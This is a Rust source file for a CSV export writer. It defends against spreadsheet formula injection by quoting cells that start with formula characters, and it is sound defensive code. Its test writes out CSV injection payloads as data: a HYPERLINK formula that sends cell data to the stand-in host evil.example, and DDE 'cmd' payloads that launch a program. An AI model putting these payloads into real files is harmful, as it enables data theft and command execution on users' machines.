//! The one CSV writer every export uses (a run's issues, a hold's
//! evidence). A cell that begins with `=`, `+`, `-`, `@`, a tab or a
//! carriage return is a formula to a spreadsheet; following OWASP's
//! "CSV Injection" guidance (owasp.org/www-community/attacks/CSV_Injection)
//! such a cell is prefixed with a single quote, so a pupil named
//! `=HYPERLINK(…)` stays text when a school opens the file.

/// The first characters a spreadsheet reads as the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as it is safe to write: quoted as text when it would start a
/// formula.
fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// Rows of CSV in memory, every cell neutralised.
pub struct CsvExport {
    writer: csv::Writer<Vec<u8>>,
}

impl CsvExport {
    /// A file whose first row is `header`.
    pub fn new(header: &[&str]) -> Self {
        let mut export = Self {
            writer: csv::Writer::from_writer(Vec::new()),
        };
        export.row(header);
        export
    }

    pub fn row(&mut self, cells: &[&str]) {
        self.writer
            .write_record(cells.iter().map(|cell| neutralised(cell).into_owned()))
            .expect("writing CSV to memory cannot fail");
    }

    /// The file's text.
    pub fn finish(self) -> String {
        let bytes = self
            .writer
            .into_inner()
            .expect("flushing CSV to memory cannot fail");
        String::from_utf8(bytes).expect("CSV of strings is UTF-8")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_run_are_kept_as_text() {
        let mut export = CsvExport::new(&["Name", "MIS id"]);
        // The payloads OWASP's CSV Injection page lists, and names that
        // merely look like them.
        for hostile in [
            "=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ] {
            export.row(&[hostile, "1234"]);
        }
        export.row(&["Zoë O'Neil", "-"]);
        export.row(&["Ana", "A-1"]);
        let text = export.finish();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let cells: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect();
        for row in &cells[..6] {
            assert!(row[0].starts_with('\''), "{row:?}");
        }
        assert_eq!(
            cells[0][0],
            "'=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")"
        );
        assert_eq!(cells[6], ["Zoë O'Neil", "'-"]);
        assert_eq!(cells[7], ["Ana", "A-1"]);
    }
}
